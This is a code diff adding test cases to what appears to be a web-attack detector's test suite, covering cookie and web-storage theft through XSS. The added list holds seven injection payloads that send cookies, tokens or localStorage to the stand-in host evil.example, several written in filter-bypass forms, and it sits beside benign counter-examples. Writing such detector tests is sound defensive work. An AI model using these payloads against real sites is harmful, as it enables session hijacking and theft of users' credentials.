@@ -520,7 +520,28 @@ const NOT_LDAP_FILTER: Case[] = [
   ["query", "q=(a)(b=1)"],
 ];
 
+// Cookies or web storage joined onto a string naming another host (jsexfil.ts): xss. Written from
+// the payload kind (cookie theft), in the forms filter bypasses take.
+const STORAGE_THEFT: Case[] = [
+  ["query", "q=" + encodeURIComponent("';new Image().src='//evil.example/?'+document.cookie;'")],
+  ["query", "q=" + encodeURIComponent("');document.location='https://evil.example/s?c='+escape(document.cookie);//")],
+  ["body:json", JSON.stringify({ comment: "';fetch('//evil.example?c='+document['cookie'])//" })],
+  ["body:json", JSON.stringify({ bio: `<img src=x onerror="navigator.sendBeacon('//evil.example', document.cookie)">` })],
+  ["body:form", "name=" + encodeURIComponent("window.onload=()=>fetch(`https://evil.example/${localStorage.token}`)")],
+  ["header:Referer", "https://shop.example/?q=';location='//evil.example/'.concat(window.sessionStorage.getItem('jwt'))//"],
+  ["query", "x=" + encodeURIComponent("$.post('//evil.example/c',{c:btoa(JSON.stringify(localStorage))})")],
+];
+const NOT_STORAGE_THEFT: Case[] = [
+  // A site's own code: a cookie tested, read into a variable or written; a URL elsewhere in it.
+  ["body:json", JSON.stringify({ code: "loadScript('https://cdn.example/consent.js'); if (document.cookie.indexOf('consent=1') < 0) showBanner();" })],
+  ["body:json", JSON.stringify({ code: "fetch('https://api.example/v1/me'); var c = document.cookie; localStorage.setItem('seen', '1');" })],
+  ["body:json", JSON.stringify({ code: "document.cookie = 'theme=dark; path=/; domain=' + '//example.com';" })],
+  ["body:json", JSON.stringify({ text: "See https://developer.mozilla.org/docs/Web/API/Document/cookie for document.cookie and localStorage." })],
+  ["query", "q=" + encodeURIComponent("https://example.com/?ref=" + "documentcookie+localStorageX")],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["storage-theft", "xss", STORAGE_THEFT, NOT_STORAGE_THEFT],
   ["ldap-filter", "ldapi", LDAP_FILTER, NOT_LDAP_FILTER],
   ["event-handler", "xss", EVENT_HANDLER, NOT_EVENT_HANDLER],
   ["php-superglobal", "rce", PHP_SUPERGLOBAL, NOT_PHP_SUPERGLOBAL],
